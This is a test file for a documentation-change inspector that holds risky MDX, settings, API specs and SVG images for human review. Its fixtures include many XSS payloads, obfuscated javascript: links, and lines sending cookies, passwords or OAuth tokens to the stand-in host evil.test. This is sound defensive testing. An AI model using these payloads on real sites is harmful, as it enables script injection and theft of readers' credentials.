import { describe, expect, test } from 'vitest';
import { treeOf } from '../../../../../test/support/docs-tree.ts';
import type { DocsCheck } from '../check/docs-check.ts';
import { inspectTexts } from '../check/inspect-texts.ts';
import { createWorkspace } from '../workspace/overlay.ts';
import { inspectChanges } from './inspect.ts';

const check: Pick<DocsCheck, 'inspect'> = {
  inspect: async (question) => ({ status: 'inspected', ...inspectTexts(question) }),
};
const { signal } = new AbortController();

const CONFIG = {
  name: 'Docs',
  variables: { name: 'Acme', region: 'eu' },
  integrations: { ga4: { measurementId: 'G-1' } },
  redirects: [{ source: '/old', destination: '/new' }],
  api: { openapi: 'api.yaml', playground: { display: 'simple' }, baseUrl: 'https://api.acme.test' },
  navigation: { pages: ['index', 'other'] },
};
const SPEC =
  'openapi: 3.1.0\ninfo: { title: A, version: "1" }\nservers:\n  - url: https://api.acme.test/v1\npaths: {}\n';
const PAGE = '---\ntitle: Home\n---\n\nText.\n';
const OLD =
  '---\ntitle: Other\n---\n\nimport { Chart } from "/snippets/chart.jsx"\n\n<Chart run={() => draw()} />\n\n<iframe src="https://www.youtube.com/embed/1" />\n';
const base = treeOf({
  'docs.json': JSON.stringify(CONFIG, null, 2),
  'index.mdx': PAGE,
  'other.mdx': OLD,
  'images/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
  'snippets/chart.jsx': 'export const Chart = () => <b/>;',
  'api.yaml': SPEC,
});

async function inspect(files: Record<string, string | null>) {
  return inspectChanges(createWorkspace(base, new Map(Object.entries(files))), check, signal);
}
const config = (change: object): Record<string, string> => ({
  'docs.json': JSON.stringify({ ...CONFIG, ...change }, null, 2),
});
const page = (text: string): Record<string, string> => ({ 'index.mdx': `${PAGE}\n${text}\n` });
const svg = (text: string): Record<string, string> => ({ 'images/a.svg': text });
const NS = 'xmlns="http://www.w3.org/2000/svg"';

/** Spellings of code, settings and images that reach the browser of a reader. */
const CODE: [string, Record<string, string>][] = [
  ['a name in pieces', page('{[]["constr" + "uctor"]["constr" + "uctor"]("alert(1)")()}')],
  ['a member in pieces', page('{"a"["constr" + "uctor"]}')],
  ['a name in a template', page('export const a = "const"\n\n{"a"[`$' + '{a}ructor`].name}')],
  [
    'a name by concatenated constants',
    page('export const a = "constr"\n\nexport const b = "uctor"\n\n{[][a + b]}'),
  ],
  ['a prototype', page('{[].__proto__}')],
  ['a timer', page('{setTimeout("alert(1)")}')],
  ['an image that is requested', page('{new Image().src="//evil.test?" + 1}')],
  ['a window', page('{open("//evil.test")}')],
  ['a spread handler', page('<b {...{onClick: () => alert(1)}}>x</b>')],
  ['a spread handler under a computed name', page('<b {...{["on" + "Click"]: go}}>x</b>')],
  ['a spread of a constant', page('export const p = { onClick: "x" }\n\n<b {...p}>x</b>')],
  ['a spread of anything', page('<b {...rest}>x</b>')],
  ['a handler', page('<b onClick={go}>x</b>')],
  ['a handler as text', page('<b onclick="alert(1)">x</b>')],
  ['a handler in capitals', page('<img src="x" ONERROR="alert(1)" />')],
  ['a handler over lines', page('<b\n  onMouseOver\n  = "alert(1)">x</b>')],
  ['a handler of a component', page('<Card title="x" onClick={go}>y</Card>')],
  ['an arrow function', page('{(() => 1)()}')],
  ['a function as a prop', page('<Tile render={() => 1} />')],
  ['an iteration', page('{items.map((item) => <b>{item}</b>)}')],
  ['a function', page('export function Button() { return <b>x</b> }')],
  ['an exported arrow function', page('export const Button = () => <b>x</b>')],
  ['a default export', page('export default ({ children }) => <div>{children}</div>')],
  ['a class', page('export class Button {}')],
  ['a method of an object', page('export const tools = { run() { return 1 } }')],
  ['a getter', page('export const tools = { get run() { return 1 } }')],
  ['an import of a component', page('import { New } from "/snippets/new.jsx"\n\n<New />')],
  ['an import of a package', page('import confetti from "canvas-confetti"')],
  ['an import of a URL', page('import x from "https://evil.test/x.js"')],
  ['an import at run time', page('{import("https://evil.test/x.js")}')],
  ['an export from elsewhere', page('export { x } from "/snippets/new.jsx"')],
  ['an escaped name', page('{\\u0066etch("//evil.test")}')],
  ['a browser object', page('{window}')],
  ['a cookie', page('<img src={"//evil.test/?" + document.cookie} />')],
  ['an assignment', page('{location = "//evil.test"}')],
  ['a tagged template', page('{eval`alert(1)`}')],
  ['a script', page('<script src="https://evil.test/x.js"></script>')],
  ['a script in capitals', page('<SCRIPT>alert(1)</SCRIPT>')],
  [
    'a script with a prefix',
    page('<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>'),
  ],
  [
    'a script under another name',
    page('export const Tag = "script"\n\n<Tag src="https://evil.test/x.js" />'),
  ],
  [
    'HTML that bypasses the renderer',
    page('<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />'),
  ],
  ['a document in an attribute', page('<iframe srcDoc="<b>x</b>" />')],
  ['a frame', page('<iframe src="https://evil.test/x" />')],
  ['a frame whose URL is computed', page('<iframe src={url} />')],
  ['an object', page('<object data="/x.swf" />')],
  ['a base URL', page('<base href="https://evil.test/" />')],
  ['a refresh', page('<meta httpEquiv="refresh" content="0;url=//evil.test" />')],
  ['a style sheet', page('<link rel="stylesheet" href="/x.css" />')],
  ['a form', page('<form action="https://evil.test/"><input name="password" /></form>')],
  ['a link that runs', page('[x](javascript:alert(1))')],
  ['a link with entities', page('<a href="java&#115;cript&colon;alert(1)">x</a>')],
  ['a link with a tab', page('<a href={"java\\tscript:alert(1)"}>x</a>')],
  ['a link in pieces', page('<a href={"java" + "script:alert(1)"}>x</a>')],
  ['a link with an unknown end', page('<a href={"javascript:" + rest}>x</a>')],
  ['a link with an unknown start', page('<a href={start + "script:alert(1)"}>x</a>')],
  ['a definition', page('[x]\n\n[x]: <javascript:alert(1)>')],
  ['a document in a URL', page('<a href="data:text/html,<script>alert(1)</script>">x</a>')],
  ['an animation', page('<svg><a><set attributeName="href" to="javascript:alert(1)" /></a></svg>')],
  ['a diagram with a callback', page('```mermaid\ngraph TD\nclick A call alert()\n```')],
  ['a link in front matter', { 'index.mdx': '---\ntitle: Home\nurl: "javascript:alert(1)"\n---\n\nText.\n' }],
  [
    'an API in front matter',
    { 'index.mdx': '---\ntitle: Home\napi: POST https://evil.test/token\n---\n\nText.\n' },
  ],
  [
    'a remote description in front matter',
    { 'index.mdx': '---\ntitle: Home\nopenapi: https://evil.test/a.json GET /a\n---\n\nText.\n' },
  ],
  ['a link in a title', page('<Card title="[x](javascript:alert(1))" href="/x">y</Card>')],
  ['an icon with a handler', page(`<Card icon='<svg onload="alert(1)" />' title="x" href="/x">y</Card>`)],
  ['Windows line ends', page('Text.\r\n\r\n{fetch("//evil.test")}\r\n\r\nMore.')],
  ['an integration', config({ integrations: { ...CONFIG.integrations, gtm: { tagId: 'GTM-EVIL' } } })],
  ['another id of an integration', config({ integrations: { ga4: { measurementId: 'G-2' } } })],
  ['a redirect of the whole site', config({ redirects: [{ source: '/:path*', destination: '/gone' }] })],
  [
    'a redirect to another host',
    config({ redirects: [{ source: '/old', destination: 'https://evil.test' }] }),
  ],
  ['a redirect to a host by slashes', config({ redirects: [{ source: '/a', destination: '/\\evil.test' }] })],
  ['a proxy', config({ api: { ...CONFIG.api, playground: { proxy: true } } })],
  ['a base URL of the API', config({ api: { ...CONFIG.api, baseUrl: 'https://evil.test' } })],
  ['a link of the settings', config({ navbar: { links: [{ label: 'x', href: 'javascript:alert(1)' }] } })],
  ['a document in a link of the settings', config({ navbar: { links: [{ href: 'data:text/html,<b>x' }] } })],
  ['markup of the settings', config({ banner: { content: '<b onClick={go}>x</b>' } })],
  ['a variable with code', config({ variables: { ...CONFIG.variables, region: '{alert(1)}' } })],
  ['scripts of the settings', config({ head: '<script src="//evil.test"></script>' })],
  ['settings that cannot be read', { 'docs.json': '{' }],
  ['servers of an API description', { 'api.yaml': SPEC.replace('api.acme.test', 'evil.test') }],
  [
    'a server in a variable',
    {
      'api.yaml': SPEC.replace(
        'https://api.acme.test/v1',
        'https://{h}/\n    variables: { h: { default: evil.test } }',
      ),
    },
  ],
  [
    'where tokens are sent',
    {
      'api.yaml': `${SPEC}components: { securitySchemes: { a: { type: oauth2, flows: { implicit: { authorizationUrl: "https://evil.test/a" } } } } }\n`,
    },
  ],
  [
    'HTML in a description',
    {
      'api.yaml': SPEC.replace('title: A', 'title: A, description: "<a href=\'javascript:alert(1)\'>x</a>"'),
    },
  ],
  ['a script of an image', svg(`<svg ${NS}><script>alert(1)</script></svg>`)],
  [
    'HTML of an image',
    svg(`<svg ${NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>`),
  ],
  [
    'SVG under a prefix',
    svg('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'),
  ],
  ['a handler of an image', svg(`<svg ${NS} onload="alert(1)"/>`)],
  [
    'a link of an image',
    svg(
      `<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="java&#x73;cript:alert(1)"><path/></a></svg>`,
    ),
  ],
  ['a foreign object', svg(`<svg ${NS}><foreignObject><b/></foreignObject></svg>`)],
  ['entities of an image', svg(`<!DOCTYPE svg [<!ENTITY x "y">]><svg ${NS}>&x;</svg>`)],
  ['an image that cannot be parsed', svg(`<svg ${NS}><b></svg>`)],
  ['a style sheet of an image', svg(`<?xml-stylesheet href="x.xsl"?><svg ${NS}/>`)],
];

/** What people write every day. */
const BENIGN: [string, Record<string, string>][] = [
  ['prose', page('Click the button to run the script, then open the window: `location` is set.')],
  [
    'prose that sounds like code',
    page('JavaScript: the good parts. Onboarding = good. Use fetch() or setTimeout().'),
  ],
  ['prose that starts with a keyword', page('Import your data, then export it. export means to write.')],
  [
    'Windows line ends',
    { 'index.mdx': PAGE.replaceAll('\n', '\r\n').replace('Text.', 'The document, its window and location.') },
  ],
  ['a code block', page('```js\nwindow.onload = () => fetch("//evil.test");\n```')],
  ['a code block of HTML', page('```html\n<script src="https://evil.test/x.js"></script>\n```')],
  ['a code block of MDX', page('````mdx\n```js\n{alert(1)}\n```\n<b onClick={() => 1}>x</b>\n````')],
  ['a code block with a title', page('```ts client.ts {1,3} lines\nexport const run = () => 1;\n```')],
  [
    'a code block in a list',
    page('1. Run:\n\n   ```bash\n   curl -d "{\\"a\\": 1}" https://api.acme.test\n   ```'),
  ],
  ['a code block in a component', page('<CodeGroup>\n\n```js a.js\nfetch("/x")\n```\n\n</CodeGroup>')],
  ['inline code', page('Set `onClick={handler}` on `<script>` elements and call `eval()`.')],
  [
    'a table',
    page(
      '| Name | Type |\n| --- | --- |\n| `onClick` | `() => void` |\n| `href` | `javascript:` is refused |',
    ),
  ],
  ['links', page('[a](/start), [b](https://github.com/acme), [c](mailto:a@acme.test), <https://acme.test>')],
  ['a reference', page('[a][b]\n\n[b]: https://acme.test "Title"')],
  ['an image', page('![A chart](/images/a.png)')],
  ['an image in HTML', page('<img src="/images/a.png" alt="On" width="200" />')],
  ['an image as data', page('<img src="data:image/svg+xml;base64,AAAA" alt="" />')],
  ['a card', page('<Card title="Start" icon="rocket" href="/start" cols={2} horizontal>Text</Card>')],
  ['a card whose title has a colon', page('<Card title="JavaScript: basics" href="/js">Text</Card>')],
  ['steps', page('<Steps>\n  <Step title="One">Text</Step>\n</Steps>')],
  ['tabs', page('<Tabs>\n  <Tab title="npm">\n    ```bash\n    npm i\n    ```\n  </Tab>\n</Tabs>')],
  ['a callout', page('<Note>\n  Only once: {name} is **required**.\n</Note>')],
  ['a frame of an image', page('<Frame caption="One">\n  <img src="/images/a.png" />\n</Frame>')],
  ['an accordion', page('<AccordionGroup>\n<Accordion title="On error">Text</Accordion>\n</AccordionGroup>')],
  [
    'parameters',
    page('<ParamField body="onError" type="function" required>\n  Called on errors.\n</ParamField>'),
  ],
  [
    'types with angle brackets',
    page('<ParamField body="map" type="Record<string, Array<Script>>">\n  a < b\n</ParamField>'),
  ],
  ['a response field', page('<ResponseField name="url" type="string">URL</ResponseField>')],
  ['a style', page('<div style={{ width: "50%", maxWidth: 200 }} className="flex">x</div>')],
  ['a value', page('{name} costs {props.price} and {items[0].label}')],
  ['a joined URL', page('<a href={base + "/start"}>x</a> {"Total: " + count}')],
  ['literals', page('{"text"} {`text`} {42} {true} {[1, 2].length}')],
  ['a condition', page('{isNew ? "new" : <b>old</b>} {props.a && "b"}')],
  ['a comment', page('{/* TODO: link the overview */}')],
  ['a constant', page('export const version = "1.2.3"\n\nVersion {version}')],
  [
    'a table of constants',
    page('export const rows = [{ name: "a", once: true }, { name: "b" }]\n\n{rows[0].name}'),
  ],
  ['a snippet', page('import Note from "/snippets/note.mdx"\n\n<Note name="x" />')],
  ['names of a snippet', page('import { region, plan } from "/snippets/values.mdx"\n\n{region}')],
  ['a component that the docs use', page('import { Chart } from "/snippets/chart.jsx"\n\n<Chart />')],
  ['a video of a known host', page('<iframe src="https://www.youtube.com/embed/2" title="x" />')],
  ['a video', page('<video src="/v.mp4" controls autoPlay loop muted playsInline />')],
  ['math', page('Inline $a^2$ and\n\n$$\n\\frac{a}{b}\n$$')],
  ['a diagram', page('```mermaid\ngraph TD\n  A[Click] --> B{On?}\n```')],
  ['a footnote', page('Text[^1]\n\n[^1]: More.')],
  ['a list with braces', page('- Use `{id}` in the path\n- Or \\{id\\}')],
  ['variables', page('Welcome to {{name}} in {{region}}.')],
  ['emoji and other scripts', page('ガイド 👨‍👩‍👧 «цитата»')],
  ['a heading', page('## When to run `setup()`')],
  ['a quote', page('> Do not open the console.')],
  [
    'front matter',
    { 'index.mdx': '---\ntitle: "On call: script"\ndescription: Run <b>it</b>\nicon: code\n---\n\nText.\n' },
  ],
  ['a page of an operation', { 'new.mdx': '---\nopenapi: POST /orders\n---\n' }],
  ['a deleted page', { 'other.mdx': null as unknown as string }],
  ['a moved page with its code', { 'other.mdx': null as unknown as string, 'guides/other.mdx': OLD }],
  ['code with other words around it', { 'other.mdx': OLD.replace('title: Other', 'title: Another') }],
  ['code that is indented', { 'other.mdx': OLD.replace('<Chart run', '<Chart  run') }],
  ['a navigation entry', config({ navigation: { pages: ['index', 'other', 'new'] } })],
  ['a redirect of a page', config({ redirects: [...CONFIG.redirects, { source: '/a', destination: '/b' }] })],
  [
    'a redirect of a section',
    config({ redirects: [{ source: '/guides/:slug*', destination: '/docs/:slug*' }] }),
  ],
  ['a color and a name', config({ name: 'Acme: docs', colors: { primary: '#0f766e' } })],
  [
    'a link of the settings',
    config({ navbar: { links: [{ label: 'Blog', href: 'https://acme.test/blog' }] } }),
  ],
  ['a banner', config({ banner: { content: 'Read **this** [post](/post).' } })],
  ['a variable', config({ variables: { ...CONFIG.variables, plan: 'Pro plan' } })],
  ['the look of the playground', config({ api: { ...CONFIG.api, playground: { display: 'interactive' } } })],
  [
    'an operation',
    {
      'api.yaml': SPEC.replace(
        'paths: {}',
        'paths: { /a/{id}: { get: { summary: "Get {id}", description: "See <b>a</b> and `x()`.", responses: {} } } }',
      ),
    },
  ],
  ['another path of a server', { 'api.yaml': SPEC.replace('/v1', '/v2') }],
  [
    'an image',
    svg(
      `<svg ${NS} viewBox="0 0 1 1"><title>On click</title><style>a { fill: red }</style><use href="#a"/></svg>`,
    ),
  ],
  [
    'an image with a document type',
    svg(
      `<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg ${NS}/>`,
    ),
  ],
];

test('the tables are as long as promised', () => {
  expect([CODE.length >= 60, BENIGN.length >= 60]).toEqual([true, true]);
});

describe('is held for a person', () => {
  test.each(CODE)('%s', async (_what, files) => {
    const { held, refused } = await inspect(files);
    expect(refused).toEqual([]);
    expect(held.length).toBeGreaterThan(0);
    const [path] = Object.keys(files);
    for (const one of held) expect(one).toMatchObject({ path, message: expect.stringMatching(/^has \S/) });
    expect(held[0]?.line).toBeGreaterThan(0);
  });

  test('with the line of each place', async () => {
    const { held } = await inspect({
      'index.mdx': `${PAGE}\n\n<b onClick={go}>x</b>\n\n{\n  1 + run()\n}\n`,
    });
    expect(held.map(({ line, message }) => [line, message])).toEqual([
      [8, 'has an event handler (`onClick`)'],
      [11, 'has a function call (`run`)'],
    ]);
  });

  test('each further use of code that was there once', async () => {
    const { held } = await inspect({
      'other.mdx': OLD.replace('<iframe', '<Chart run={() => draw()} />\n\n<iframe'),
    });
    expect(held).toHaveLength(1);
  });

  test('everything, when the changes cannot be examined', async () => {
    const workspace = createWorkspace(base, new Map([['index.mdx', PAGE.replace('Text', 'More')]]));
    const broken = {
      inspect: async () => ({ status: 'not_inspected' as const, reason: 'the server is busy.' }),
    };
    const { held } = await inspectChanges(workspace, broken, signal);
    expect(held).toMatchObject([{ path: '', message: expect.stringContaining('not examined') }]);
  });
});

describe('is not held', () => {
  test.each(BENIGN)('%s', async (_what, files) => {
    expect(await inspect(files)).toEqual({ held: [], refused: [] });
  });
});

describe('a new API description', () => {
  test('is refused when it is none, or nothing names it', async () => {
    const { refused } = await inspect({ 'ci.yaml': 'jobs: {}\n', 'orders.yaml': SPEC });
    expect(
      refused.map(({ path, message }) => [path, /not an API description|does not name/.exec(message)?.[0]]),
    ).toEqual([
      ['ci.yaml', 'not an API description'],
      ['orders.yaml', 'does not name'],
    ]);
  });

  test('is refused beside parts of docs.json too', async () => {
    const files = {
      'docs.json': JSON.stringify({ ...CONFIG, redirects: { $ref: './settings/a.json' } }),
      'settings/a.json': '[]',
    };
    const workspace = createWorkspace(treeOf(files), new Map([['settings/b.json', '{ "jobs": {} }']]));
    workspace.write('docs.json', files['docs.json'].replace('"api.yaml"', '["api.yaml", "settings/b.json"]'));
    const { refused } = await inspectChanges(workspace, check, signal);
    expect(refused.map(({ path }) => path)).toEqual(['settings/b.json']);
  });

  test('is accepted when docs.json names it', async () => {
    const named = config({ api: { ...CONFIG.api, openapi: ['api.yaml', 'orders.yaml'] } });
    expect(await inspect({ ...named, 'orders.yaml': SPEC })).toEqual({ held: [], refused: [] });
  });
});
